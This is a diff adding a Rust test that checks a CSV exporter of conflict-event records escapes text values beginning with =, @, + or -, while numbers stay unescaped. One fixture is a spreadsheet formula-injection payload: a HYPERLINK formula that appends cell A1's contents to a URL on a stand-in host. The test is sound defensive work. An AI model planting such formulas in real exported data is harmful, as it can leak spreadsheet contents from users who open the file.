@@ -151,6 +151,28 @@ fn the_rfc_check_catches_swapped_coordinates() {
 }
 
 #[test]
+fn flat_csv_defuses_spreadsheet_formulas_in_text_only() {
+    let mut all = events(&["acled/current.csv"]);
+    all[0].notes = Some("=HYPERLINK(\"http://example.com/?\"&A1,\"click\")".into());
+    all[0].title = "@SUM(1+1)".into();
+    all[1].actors[0].name = "-Brigade".into();
+    all[2].tags = vec!["+1".into()];
+    all[3].place.as_mut().unwrap().lon = Some(-3.5);
+    let csv = export(&all, ExportFormat::Csv);
+    let mut rdr = csv::Reader::from_reader(&csv[..]);
+    let header = rdr.headers().unwrap().clone();
+    let rows: Vec<csv::StringRecord> = rdr.records().map(Result::unwrap).collect();
+    let get = |r: &csv::StringRecord, name: &str| r[header.iter().position(|h| h == name).unwrap()].to_string();
+    assert_eq!(get(&rows[0], "notes"), "'=HYPERLINK(\"http://example.com/?\"&A1,\"click\")");
+    assert_eq!(get(&rows[0], "title"), "'@SUM(1+1)");
+    assert_eq!(get(&rows[1], "actors"), "'-Brigade");
+    assert_eq!(get(&rows[2], "tags"), "'+1");
+    // numbers stay numbers
+    assert_eq!(get(&rows[3], "longitude"), "-3.5");
+    assert_eq!(get(&rows[4], "notes"), all[4].notes.clone().unwrap());
+}
+
+#[test]
 fn flat_csv_has_one_row_per_event() {
     let all = events(&["acled/current.csv"]);
     let csv = export(&all, ExportFormat::Csv);
